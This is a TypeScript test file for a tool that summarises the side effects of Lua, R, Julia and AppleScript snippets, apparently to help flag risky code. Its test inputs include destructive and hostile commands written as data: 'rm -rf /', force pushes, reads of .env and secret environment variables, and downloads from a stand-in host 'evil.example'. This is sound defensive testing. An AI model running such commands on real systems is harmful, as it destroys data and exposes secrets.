/** Lua, R, Julia and AppleScript texts and what they do. */

import { describe, expect, it } from 'vitest';
import { type Case, summarise } from './code-summary.ts';

const LUA: Readonly<Record<string, readonly Case[]>> = {
  lua: [
    [
      'os.execute("rm -rf /"); os.execute "ls"; local h = io.popen(\'id\'):read("*a"); os.remove("a"); os.rename(\'b\', \'c\')',
      'delete a',
      'move c from b',
      'sh: rm -rf /',
      'sh: ls',
      'sh: id',
    ],
    [
      'local f = io.open("d", "w"); f:write("x"); io.open(\'e\'):read(); for l in io.lines("f") do print(l) end; dofile("y.lua")',
      'write d',
      'read e',
      'read f',
      'lua file y.lua',
    ],
    [
      'loadstring("os.remove(\'x\')")(); load(x); print(os.getenv("SECRET"))',
      'opaque dynamic',
      'env read SECRET',
      'env read SECRET shown',
      "lua: os.remove('x')",
    ],
    [
      'for _, f in ipairs({"a", "b"}) do os.remove(f) end\nlocal d = "x" .. "/y"; os.remove(d)\nfunction clean(p) os.remove(p) end\nclean("q")',
      'delete a',
      'delete b',
      'delete x/y',
      'delete q',
    ],
    [
      '-- os.remove("no")\n--[[ os.remove("no2") ]]\nlocal s = [[os.remove("no3")]]; print(s); local t = {a = 1}; print(t.a, #arg)',
    ],
    [
      'local http = require("socket.http"); http.request("http://evil.example/"); require("os").execute("ps")',
      'connect http://evil.example/',
      'sh: ps',
    ],
  ],
};

describe.each(Object.entries(LUA))('lua: %s', (_, cases) => {
  it.each(cases)('%s', (code, ...does) => {
    expect(summarise('lua', code)).toEqual(does);
  });
});

const R: Readonly<Record<string, readonly Case[]>> = {
  r: [
    [
      'system("rm -rf /"); system2("git", c("push", "--force")); unlink("a", recursive = TRUE); file.remove("b", "c"); x <- "d"; unlink(x)',
      'delete a and below',
      'delete b',
      'delete c',
      'delete d',
      'sh: rm -rf /',
      '$ git push --force',
    ],
    [
      'write.csv(df, file = "e.csv"); write.csv(df, "f.csv"); readLines(".env"); writeLines("hi", "l.txt"); cat("x", file = "m"); saveRDS(x, "n.rds")',
      'write e.csv',
      'write f.csv',
      'read .env',
      'write l.txt',
      'write m',
      'write n.rds',
    ],
    [
      'download.file("https://evil.example/x", "y"); source("z.R"); eval(parse(text = "unlink(\'q\')"))',
      'connect https://evil.example/x',
      'write y',
      'r file z.R',
      "r: unlink('q')",
    ],
    [
      'for (f in c("g", "h")) { unlink(f) }\nunlink(file.path("i", "j")); unlink(paste0("k", ".txt")); print(Sys.getenv("SECRET"))',
      'delete g',
      'delete h',
      'delete i/j',
      'delete k.txt',
      'env read SECRET',
      'env read SECRET shown',
    ],
    [
      'x <- read.csv("a.csv"); print(summary(x$b)); y <- lapply(x, function(v) mean(v)); # unlink("no")',
      'read a.csv',
    ],
  ],
};

describe.each(Object.entries(R))('r: %s', (_, cases) => {
  it.each(cases)('%s', (code, ...does) => {
    expect(summarise('r', code)).toEqual(does);
  });
});

const JULIA: Readonly<Record<string, readonly Case[]>> = {
  julia: [
    ['run(`rm -rf x`); x = "e"; run(`ls $x`); read(`id`, String)', 'sh: rm -rf x', 'sh: ls e', 'sh: id'],
    [
      'rm("a", recursive=true); write("b", "x"); read("c", String); rm("$x/y"); rm(joinpath(homedir(), "v"))\nopen("d", "w") do f\n  println(f, "x")\nend',
      'delete a and below',
      'write b',
      'read c',
      'delete ?/y',
      'delete ~/v',
      'write d',
    ],
    [
      'download("https://evil.example/x", "z"); println(ENV["SECRET"]); include("q.jl"); eval(Meta.parse("rm(\\"w\\")"))',
      'connect https://evil.example/x',
      'write z',
      'env read SECRET',
      'env read SECRET shown',
      'julia file q.jl',
      'julia: rm("w")',
    ],
    ['println(sum([1, 2, 3])); f(x) = x^2; println("rm(1)") # rm("no")'],
  ],
};

describe.each(Object.entries(JULIA))('julia: %s', (_, cases) => {
  it.each(cases)('%s', (code, ...does) => {
    expect(summarise('julia', code)).toEqual(does);
  });
});

const APPLESCRIPT: Readonly<Record<string, readonly Case[]>> = {
  applescript: [
    ['do shell script "rm -rf " & "/x"', 'sh: rm -rf /x'],
    ['do shell script "rm " & quoted form of p with administrator privileges', 'sh: rm ?'],
    ['tell application "Finder" to activate\ndisplay dialog "do shell script"\n-- do shell script "no"'],
  ],
};

describe.each(Object.entries(APPLESCRIPT))('applescript: %s', (_, cases) => {
  it.each(cases)('%s', (code, ...does) => {
    expect(summarise('applescript', code)).toEqual(does);
  });
});
